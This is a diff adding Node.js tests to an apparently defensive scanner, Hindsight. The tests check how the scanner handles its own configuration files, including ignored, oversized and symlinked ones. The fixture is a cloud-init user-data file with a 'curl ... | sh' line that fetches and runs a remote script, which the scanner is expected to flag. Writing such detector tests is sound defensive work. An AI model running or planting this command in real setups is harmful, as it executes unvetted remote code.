@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
-import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import * as path from 'node:path';
 import { after, describe, it } from 'node:test';
@@ -641,5 +641,41 @@ describe('files Hindsight cannot read are said', () => {
     writeFileSync(path.join(scratch, 'user-data'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]));
     const { stdout } = hindsight(['scan', '.'], scratch);
     assert.match(stdout, /^user-data: note: skipped: UTF-16 text \(Hindsight reads UTF-8; save the file as UTF-8\)$/m);
+  });
+});
+
+describe('which configuration applies, and what it leaves unread, is said', () => {
+  const scratch = mkdtempSync(path.join(tmpdir(), 'hindsight-configs-'));
+  after(() => rmSync(scratch, { recursive: true, force: true }));
+  const hazard = '#cloud-config\nruncmd:\n  - curl -s https://example.com/i.sh | sh\n';
+
+  it('outside a repository, a config above the working directory does not apply', () => {
+    writeFile(path.join(scratch, 'outer/.hindsight.yaml'), 'ignore: ["**"]\n');
+    writeFile(path.join(scratch, 'outer/project/user-data'), hazard);
+    const { code, stdout } = hindsight(['scan', '.'], path.join(scratch, 'outer/project'));
+    assert.equal(code, 1, stdout);
+    assert.match(stdout, /^user-data:3:5 warning remote-script-piped-to-shell/m);
+  });
+
+  it('files a config ignores are counted in a note', () => {
+    const { code, stdout } = hindsight(['scan', 'project'], path.join(scratch, 'outer'));
+    assert.equal(code, 0, stdout);
+    assert.match(stdout, /^\.hindsight\.yaml: note: 1 file not read: its ignore patterns match them$/m);
+  });
+
+  it('a config over the size cap, or a link to a config outside the tree, is not read and says why', () => {
+    writeFile(path.join(scratch, 'big/.git/HEAD'), '');
+    writeFile(path.join(scratch, 'big/.hindsight.yaml'), `ignore: ["**"]\n${'#'.repeat(3 * 1024 * 1024)}\n`);
+    writeFile(path.join(scratch, 'big/user-data'), hazard);
+    const big = hindsight(['scan', '.'], path.join(scratch, 'big'));
+    assert.equal(big.code, 1, big.stdout);
+    assert.match(big.stdout, /^\.hindsight\.yaml:1:1: note: \.hindsight\.yaml is not read: it is larger than \d+ MB/m);
+    writeFile(path.join(scratch, 'elsewhere/.hindsight.yaml'), 'ignore: ["**"]\n');
+    writeFile(path.join(scratch, 'linked/.git/HEAD'), '');
+    writeFile(path.join(scratch, 'linked/user-data'), hazard);
+    symlinkSync(path.join(scratch, 'elsewhere/.hindsight.yaml'), path.join(scratch, 'linked/.hindsight.yaml'));
+    const linked = hindsight(['scan', '.'], path.join(scratch, 'linked'));
+    assert.equal(linked.code, 1, linked.stdout);
+    assert.match(linked.stdout, /^\.hindsight\.yaml:1:1: note: \.hindsight\.yaml is not read: it is a link to a file outside this tree/m);
   });
 });
